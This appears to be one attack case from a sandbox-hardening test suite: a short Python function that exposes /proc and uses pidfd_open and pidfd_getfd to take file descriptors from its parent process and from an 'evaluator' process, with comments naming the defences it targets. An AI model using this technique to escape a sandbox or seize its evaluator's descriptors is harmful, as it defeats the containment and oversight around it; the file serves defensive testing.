"""Takes descriptors out of the processes above it with pidfd_getfd."""
# defence: seccomp; a user of its own, no capabilities
# holds from: landlock
# needs: root

import os


def attack(host):
    host.uncover_proc()

    def take(pid):
        pidfd = host.syscall("pidfd_open", pid, 0)
        return host.first(*(lambda n=n: f"descriptor {host.syscall('pidfd_getfd', pidfd, n, 0)}" for n in range(3, 20)))

    return host.first(lambda: take(os.getppid()), lambda: take(host.evaluator))
